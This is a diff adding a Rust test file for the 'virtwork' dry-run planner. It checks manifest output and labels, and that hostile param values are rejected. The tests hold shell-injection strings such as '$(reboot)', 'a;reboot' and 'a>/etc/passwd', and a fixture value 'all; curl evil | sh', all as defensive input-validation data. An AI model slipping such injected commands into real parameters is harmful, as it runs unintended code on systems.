@@ -1,0 +1,623 @@
+//! `virtwork run --dry-run` through the real binary: what a user sees on stdout (a valid
+//! multi-document YAML stream, or one JSON document), that no cluster or kubeconfig is
+//! needed, that counts and labels are right for the default fleet and for per-workload
+//! settings, and that hostile param values are refused with exit 2 before any output.
+
+mod support;
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use serde::Deserialize;
+use serde_yaml::Value;
+
+fn catalog_dir() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("catalog")
+}
+
+/// Runs the binary in an empty temp dir with a clean environment (no VIRTWORK_* leaking in
+/// from the developer's shell, no kubeconfig).
+fn virtwork(args: &[&str], extra_env: &[(&str, &str)]) -> Output {
+    let dir = tempfile::tempdir().unwrap();
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_virtwork"));
+    cmd.args(args)
+        .current_dir(dir.path())
+        .env_clear()
+        .env("HOME", dir.path())
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("KUBECONFIG", dir.path().join("no-such-kubeconfig"));
+    for (k, v) in extra_env {
+        cmd.env(k, v);
+    }
+    cmd.output().unwrap()
+}
+
+fn dry_run(args: &[&str]) -> (Vec<Value>, String, String) {
+    let mut full = vec!["run", "--dry-run", "--no-audit"];
+    full.extend_from_slice(args);
+    let out = virtwork(&full, &[]);
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    let stderr = String::from_utf8(out.stderr).unwrap();
+    assert!(
+        out.status.success(),
+        "exit {:?}\nstderr: {stderr}",
+        out.status.code()
+    );
+    let docs = serde_yaml::Deserializer::from_str(&stdout)
+        .map(|doc| Value::deserialize(doc).expect("every document parses"))
+        .collect();
+    (docs, stdout, stderr)
+}
+
+fn of_kind<'a>(docs: &'a [Value], kind: &str) -> Vec<&'a Value> {
+    docs.iter().filter(|d| d["kind"] == kind).collect()
+}
+
+fn name(doc: &Value) -> &str {
+    doc["metadata"]["name"].as_str().unwrap()
+}
+
+fn label<'a>(meta: &'a Value, key: &str) -> Option<&'a str> {
+    meta["labels"][key].as_str()
+}
+
+fn is_uuid_v4(text: &str) -> bool {
+    uuid::Uuid::parse_str(text).is_ok_and(|u| u.get_version_num() == 4)
+        && text.len() == 36
+        && text == text.to_lowercase()
+}
+
+fn vm_counts_by_component(docs: &[Value]) -> BTreeMap<String, usize> {
+    let mut counts = BTreeMap::new();
+    for vm in of_kind(docs, "VirtualMachine") {
+        let component = label(&vm["metadata"], "app.kubernetes.io/component").unwrap();
+        *counts.entry(component.to_string()).or_insert(0) += 1;
+    }
+    counts
+}
+
+fn data_volume_templates(docs: &[Value]) -> Vec<&Value> {
+    of_kind(docs, "VirtualMachine")
+        .into_iter()
+        .flat_map(|vm| {
+            vm["spec"]["dataVolumeTemplates"]
+                .as_sequence()
+                .map(|s| s.iter().collect::<Vec<_>>())
+                .unwrap_or_default()
+        })
+        .collect()
+}
+
+#[test]
+fn default_dry_run_plans_the_full_fleet_with_one_run_id_everywhere() {
+    let (docs, stdout, stderr) = dry_run(&[]);
+    let services = of_kind(&docs, "Service");
+    let secrets = of_kind(&docs, "Secret");
+    let vms = of_kind(&docs, "VirtualMachine");
+    assert_eq!(
+        (services.len(), secrets.len(), vms.len(), docs.len()),
+        (2, 11, 11, 24)
+    );
+    assert_eq!(data_volume_templates(&docs).len(), 3);
+
+    // Reference order: Services (sorted), then Secrets, then VMs.
+    let kinds: Vec<&str> = docs.iter().map(|d| d["kind"].as_str().unwrap()).collect();
+    assert!(kinds[..2].iter().all(|k| *k == "Service"), "{kinds:?}");
+    assert!(kinds[2..13].iter().all(|k| *k == "Secret"), "{kinds:?}");
+    assert!(
+        kinds[13..].iter().all(|k| *k == "VirtualMachine"),
+        "{kinds:?}"
+    );
+    assert_eq!(
+        services.iter().map(|s| name(s)).collect::<Vec<_>>(),
+        ["virtwork-iperf3-server", "virtwork-tps-server"]
+    );
+    let vm_names: BTreeSet<&str> = vms.iter().map(|v| name(v)).collect();
+    for expected in [
+        "virtwork-cpu-0",
+        "virtwork-memory-0",
+        "virtwork-database-0",
+        "virtwork-disk-0",
+        "virtwork-network-server-0",
+        "virtwork-network-client-0",
+        "virtwork-tps-server-0",
+        "virtwork-tps-client-0",
+        "virtwork-chaos-disk-0",
+        "virtwork-chaos-network-0",
+        "virtwork-chaos-process-0",
+    ] {
+        assert!(
+            vm_names.contains(expected),
+            "{expected} missing: {vm_names:?}"
+        );
+    }
+
+    // One run id, a UUID v4, on every object and every DataVolume template.
+    let mut metas: Vec<&Value> = docs.iter().map(|d| &d["metadata"]).collect();
+    metas.extend(vms.iter().map(|v| &v["spec"]["template"]["metadata"]));
+    metas.extend(data_volume_templates(&docs).iter().map(|t| &t["metadata"]));
+    let run_ids: BTreeSet<&str> = metas
+        .iter()
+        .map(|m| label(m, "virtwork/run-id").expect("every object has a run id"))
+        .collect();
+    assert_eq!(run_ids.len(), 1, "{run_ids:?}");
+    let run_id = *run_ids.iter().next().unwrap();
+    assert!(is_uuid_v4(run_id), "{run_id}");
+    for meta in &metas {
+        assert_eq!(
+            label(meta, "app.kubernetes.io/managed-by"),
+            Some("virtwork")
+        );
+        assert!(label(meta, "app.kubernetes.io/component").is_some());
+    }
+    for doc in &docs {
+        assert_eq!(doc["metadata"]["namespace"], "virtwork");
+    }
+
+    // Service selectors include the component, so network and tps servers never mix.
+    for svc in &services {
+        let component = label(&svc["metadata"], "app.kubernetes.io/component").unwrap();
+        let selector = &svc["spec"]["selector"];
+        assert_eq!(
+            selector["app.kubernetes.io/component"].as_str(),
+            Some(component)
+        );
+        assert_eq!(selector["virtwork/role"].as_str(), Some("server"));
+        assert_eq!(
+            label(&svc["metadata"], "app.kubernetes.io/name"),
+            Some("virtwork")
+        );
+    }
+
+    // Each Secret holds a cloud-config and is referenced by its VM.
+    for vm in &vms {
+        let secret_name = format!("{}-cloudinit", name(vm));
+        let secret = secrets.iter().find(|s| name(s) == secret_name).unwrap();
+        let userdata = secret["stringData"]["userdata"].as_str().unwrap();
+        assert!(userdata.starts_with("#cloud-config\n"), "{secret_name}");
+        let volumes = vm["spec"]["template"]["spec"]["volumes"]
+            .as_sequence()
+            .unwrap();
+        assert_eq!(
+            volumes[1]["cloudInitNoCloud"]["secretRef"]["name"].as_str(),
+            Some(secret_name.as_str())
+        );
+    }
+
+    // The comment header before every document, and nothing but YAML on stdout.
+    let headers: Vec<&str> = stdout
+        .lines()
+        .filter(|l| l.starts_with('#') && !l.starts_with("#cloud"))
+        .collect();
+    assert!(headers.contains(&"# Service: virtwork-iperf3-server (workload: network)"));
+    assert!(headers.contains(&"# VirtualMachine: virtwork-cpu-0 (workload: cpu)"));
+    assert!(headers.contains(&"# Secret: virtwork-tps-client-0-cloudinit (workload: tps)"));
+    assert!(!stdout.contains("dry run mode") && !stdout.contains("deployment summary"));
+    assert!(stderr.contains("dry run mode"), "{stderr}");
+    assert!(stderr.contains("deployment summary"), "{stderr}");
+}
+
+#[test]
+fn each_run_gets_a_fresh_run_id() {
+    let id = |docs: &[Value]| {
+        label(&docs[0]["metadata"], "virtwork/run-id")
+            .unwrap()
+            .to_string()
+    };
+    let (first, _, _) = dry_run(&["--workloads", "cpu"]);
+    let (second, _, _) = dry_run(&["--workloads", "cpu"]);
+    assert_ne!(id(&first), id(&second));
+}
+
+#[test]
+fn vm_count_scales_every_workload_and_pairs_double() {
+    let (docs, _, _) = dry_run(&["--vm-count", "3"]);
+    let counts = vm_counts_by_component(&docs);
+    for single in [
+        "cpu",
+        "memory",
+        "database",
+        "disk",
+        "chaos-disk",
+        "chaos-network",
+        "chaos-process",
+    ] {
+        assert_eq!(counts[single], 3, "{single}");
+    }
+    assert_eq!((counts["network"], counts["tps"]), (6, 6));
+    assert_eq!(of_kind(&docs, "Secret").len(), 33);
+    assert_eq!(of_kind(&docs, "Service").len(), 2);
+    assert_eq!(data_volume_templates(&docs).len(), 9);
+    let names: BTreeSet<&str> = of_kind(&docs, "VirtualMachine")
+        .iter()
+        .map(|v| name(v))
+        .collect();
+    assert!(names.contains("virtwork-cpu-2") && !names.contains("virtwork-cpu-3"));
+    assert!(names.contains("virtwork-network-client-2"));
+}
+
+#[test]
+fn per_workload_yaml_settings_change_exactly_their_workload() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("virtwork.yaml");
+    std::fs::write(
+        &config,
+        "vm-count: 2\n\
+         workloads:\n\
+         \x20 cpu:\n\
+         \x20   vm-count: 3\n\
+         \x20   cpu-cores: 4\n\
+         \x20   memory: 3Gi\n\
+         \x20 network:\n\
+         \x20   vm-count: 1\n\
+         \x20 memory:\n\
+         \x20   enabled: false\n",
+    )
+    .unwrap();
+    let (docs, _, stderr) = dry_run(&[
+        "--config",
+        config.to_str().unwrap(),
+        "--workloads",
+        "cpu,memory,network,disk",
+    ]);
+    let counts = vm_counts_by_component(&docs);
+    assert_eq!(
+        counts,
+        BTreeMap::from([
+            ("cpu".to_string(), 3),
+            ("disk".to_string(), 2),
+            ("network".to_string(), 2)
+        ])
+    );
+    let domain = |vm: &Value| vm["spec"]["template"]["spec"]["domain"].clone();
+    for vm in of_kind(&docs, "VirtualMachine") {
+        let d = domain(vm);
+        let component = label(&vm["metadata"], "app.kubernetes.io/component").unwrap();
+        let (cores, memory) = if component == "cpu" {
+            (4, "3Gi")
+        } else {
+            (2, "2Gi")
+        };
+        assert_eq!(d["cpu"]["cores"].as_u64(), Some(cores), "{component}");
+        assert_eq!(
+            d["resources"]["requests"]["memory"].as_str(),
+            Some(memory),
+            "{component}"
+        );
+    }
+    assert_eq!(data_volume_templates(&docs).len(), 2);
+    assert!(stderr.contains("workload skipped"), "{stderr}");
+}
+
+#[test]
+fn dry_run_needs_no_kubeconfig_and_ignores_a_broken_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let bogus = dir.path().join("kubeconfig");
+    std::fs::write(&bogus, "this is not a kubeconfig").unwrap();
+    let (docs, _, _) = dry_run(&[
+        "--workloads",
+        "cpu",
+        "--kubeconfig",
+        bogus.to_str().unwrap(),
+    ]);
+    assert_eq!(of_kind(&docs, "VirtualMachine").len(), 1);
+}
+
+#[test]
+fn json_output_is_one_document_with_the_plan() {
+    let out = virtwork(
+        &[
+            "run",
+            "--dry-run",
+            "--no-audit",
+            "--output",
+            "json",
+            "--workloads",
+            "disk,network",
+        ],
+        &[],
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON document");
+    assert_eq!(doc["format_version"], 1);
+    assert_eq!(doc["dry_run"], "client");
+    assert_eq!(doc["namespace"], "virtwork");
+    let run_id = doc["run_id"].as_str().unwrap();
+    assert!(is_uuid_v4(run_id));
+    assert_eq!(
+        doc["totals"],
+        serde_json::json!({"workloads": 2, "vms": 3, "secrets": 3, "services": 1, "data_volumes": 1})
+    );
+    let workloads: Vec<&str> = doc["workloads"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|w| w["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(workloads, ["disk", "network"]);
+    assert_eq!(doc["workloads"][0]["data_disk_size"], "10Gi");
+    assert_eq!(doc["workloads"][1]["vm_count"], 2);
+    assert_eq!(doc["workloads"][1]["requires_service"], true);
+    for kind in ["services", "secrets", "vms"] {
+        for object in doc[kind].as_array().unwrap() {
+            assert_eq!(object["metadata"]["labels"]["virtwork/run-id"], run_id);
+        }
+    }
+    assert_eq!(doc["vms"][0]["kind"], "VirtualMachine");
+    assert_eq!(doc["vms"][0]["metadata"]["name"], "virtwork-disk-0");
+}
+
+#[test]
+fn catalog_entries_are_planned_after_builtins() {
+    let catalog = catalog_dir();
+    let (docs, _, _) = dry_run(&[
+        "--workloads",
+        "cpu",
+        "--catalog-dir",
+        catalog.to_str().unwrap(),
+        "--from-catalog",
+        "sysbench,redis-bench",
+    ]);
+    let vms: Vec<&str> = of_kind(&docs, "VirtualMachine")
+        .iter()
+        .map(|v| name(v))
+        .collect();
+    assert_eq!(
+        vms,
+        [
+            "virtwork-cpu-0",
+            "virtwork-sysbench-0",
+            "virtwork-redis-bench-server-0",
+            "virtwork-redis-bench-client-0"
+        ]
+    );
+    let services: Vec<&str> = of_kind(&docs, "Service").iter().map(|s| name(s)).collect();
+    assert_eq!(services, ["virtwork-redis-bench"]);
+}
+
+/// Every hostile value must be refused with exit 2, a one-line error, and nothing on stdout.
+fn assert_refused(args: &[&str], env: &[(&str, &str)], what: &str) {
+    let out = virtwork(args, env);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{what}: stderr: {stderr}");
+    assert!(
+        out.stdout.is_empty(),
+        "{what}: printed {:?}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    let error_lines: Vec<&str> = stderr.lines().filter(|l| l.starts_with("Error:")).collect();
+    assert_eq!(error_lines.len(), 1, "{what}: {stderr}");
+}
+
+const HOSTILE_VALUES: [&str; 14] = [
+    "$(reboot)",
+    "`reboot`",
+    "a;reboot",
+    "a|reboot",
+    "a&&reboot",
+    "a>/etc/passwd",
+    "'quoted'",
+    "\"quoted\"",
+    "line\nbreak",
+    "%n%h",
+    "a b",
+    "${HOME}",
+    "a\\b",
+    "*",
+];
+
+/// String params of every built-in (and ints fed with non-ints), each with a benign value
+/// that must be accepted and reach the user-data: the refusal is about the value, not the key.
+const BUILTIN_PARAMS: [(&str, &str, &str); 9] = [
+    ("cpu.cpu-method", "matrixprod", "--cpu-method matrixprod"),
+    ("cpu.cpu-load-percent", "37", "--cpu-load 37"),
+    ("memory.vm-method", "flip", "--vm-method flip"),
+    ("chaos-disk.mount", "/mnt/chaos", "/mnt/chaos"),
+    ("chaos-network.packet-loss-percent", "2.5", "loss 2.5%"),
+    ("chaos-process.signal", "SIGKILL", "CHAOS_SIGNAL=SIGKILL"),
+    ("tps.file-size", "5M", "count=5"),
+    ("network.parallel-streams", "7", "-P 7"),
+    ("database.clients", "13", "-c 13"),
+];
+
+/// The benign value is accepted: exit 0 and `fragment` (the value in its place on the
+/// guest command line) appears in the printed user-data.
+fn assert_accepted(args: &[&str], fragment: &str, what: &str) {
+    let out = virtwork(args, &[]);
+    assert!(
+        out.status.success(),
+        "{what}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains(fragment),
+        "{what}: value not in the output"
+    );
+}
+
+#[test]
+fn hostile_builtin_params_are_refused_before_any_output() {
+    for (param, benign, fragment) in BUILTIN_PARAMS {
+        let workload = param.split('.').next().unwrap();
+        let args = |pair: &str| {
+            [
+                "run",
+                "--dry-run",
+                "--no-audit",
+                "--workloads",
+                workload,
+                "--params",
+                pair,
+            ]
+            .map(str::to_string)
+        };
+        let pair = format!("{param}={benign}");
+        let ok = args(&pair);
+        assert_accepted(&ok.each_ref().map(String::as_str), fragment, &pair);
+        for value in HOSTILE_VALUES {
+            let pair = format!("{param}={value}");
+            let bad = args(&pair);
+            assert_refused(&bad.each_ref().map(String::as_str), &[], &pair);
+        }
+    }
+}
+
+#[test]
+fn hostile_params_from_env_and_yaml_are_refused_too() {
+    assert_refused(
+        &["run", "--dry-run", "--no-audit", "--workloads", "cpu"],
+        &[("VIRTWORK_PARAMS", "cpu.cpu-method=$(reboot)")],
+        "VIRTWORK_PARAMS",
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("c.yaml");
+    std::fs::write(
+        &config,
+        "workloads:\n  memory:\n    params:\n      vm-method: \"all; curl evil | sh\"\n",
+    )
+    .unwrap();
+    assert_refused(
+        &[
+            "run",
+            "--dry-run",
+            "--no-audit",
+            "--workloads",
+            "memory",
+            "--config",
+            config.to_str().unwrap(),
+        ],
+        &[],
+        "YAML params",
+    );
+}
+
+#[test]
+fn hostile_catalog_placeholder_values_are_refused_before_any_output() {
+    let catalog = catalog_dir();
+    let catalog = catalog.to_str().unwrap();
+    for (entry, key, benign, fragment) in [
+        ("sysbench", "cpu-method", "prime", "--cpu-method=prime"),
+        ("sysbench", "threads", "8", "--threads=8"),
+        ("redis-bench", "maxmemory", "512mb", "--maxmemory 512mb"),
+        ("redis-bench", "num-clients", "20", "-c 20"),
+    ] {
+        let args = |pair: &str| {
+            [
+                "run",
+                "--dry-run",
+                "--no-audit",
+                "--catalog-dir",
+                catalog,
+                "--from-catalog",
+                entry,
+                "--params",
+                pair,
+            ]
+            .map(str::to_string)
+        };
+        let pair = format!("{entry}.{key}={benign}");
+        let ok = args(&pair);
+        assert_accepted(&ok.each_ref().map(String::as_str), fragment, &pair);
+        for value in HOSTILE_VALUES {
+            let pair = format!("{entry}.{key}={value}");
+            let bad = args(&pair);
+            assert_refused(&bad.each_ref().map(String::as_str), &[], &pair);
+        }
+    }
+}
+
+#[test]
+fn unknown_workloads_and_params_are_input_errors() {
+    assert_refused(
+        &["run", "--dry-run", "--workloads", "cpux"],
+        &[],
+        "unknown workload",
+    );
+    assert_refused(
+        &[
+            "run",
+            "--dry-run",
+            "--workloads",
+            "cpu",
+            "--params",
+            "cpu.no-such=1",
+        ],
+        &[],
+        "unknown param",
+    );
+    assert_refused(
+        &["run", "--dry-run", "--workloads", "cpu,cpu"],
+        &[],
+        "duplicate workload",
+    );
+}
+
+/// The YAML stream is what `kubectl apply -f -` accepts: piped into a real kubectl against
+/// the fake API server (strict field validation, KubeVirt schema on), every document is
+/// created and nothing is pruned or rejected.
+#[test]
+fn kubectl_applies_the_dry_run_stream() {
+    let kubectl_found = Command::new("kubectl")
+        .args(["version", "--client"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !kubectl_found {
+        assert!(
+            std::env::var("VIRTWORK_REQUIRE_KUBECTL").as_deref() != Ok("1"),
+            "kubectl required (VIRTWORK_REQUIRE_KUBECTL=1) but not found"
+        );
+        eprintln!("SKIPPED: kubectl not installed");
+        return;
+    }
+    let (docs, stream, _) = dry_run(&[]);
+    let server = support::FakeApiServer::start(support::Options {
+        namespaces: vec!["virtwork".into()],
+        ..support::Options::default()
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let kubeconfig = dir.path().join("kubeconfig");
+    server.write_kubeconfig(&kubeconfig).unwrap();
+    let mut child = Command::new("kubectl")
+        .arg("--kubeconfig")
+        .arg(&kubeconfig)
+        .args(["--request-timeout=30s", "apply", "-f", "-", "-o", "name"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(stream.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "kubectl apply failed: {stderr}");
+    let applied: Vec<String> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(str::to_string)
+        .collect();
+    assert_eq!(applied.len(), docs.len(), "{applied:#?}");
+    assert_eq!(applied[0], "service/virtwork-iperf3-server");
+    assert!(applied.contains(&"virtualmachine.kubevirt.io/virtwork-cpu-0".to_string()));
+    assert!(applied.contains(&"secret/virtwork-cpu-0-cloudinit".to_string()));
+    assert_eq!(
+        server.objects("virtualmachines", Some("virtwork")).len(),
+        11
+    );
+    assert_eq!(server.objects("secrets", Some("virtwork")).len(), 11);
+    assert_eq!(server.objects("services", Some("virtwork")).len(), 2);
+    assert!(
+        server.schema_violations().is_empty(),
+        "{:#?}",
+        server.schema_violations()
+    );
+}
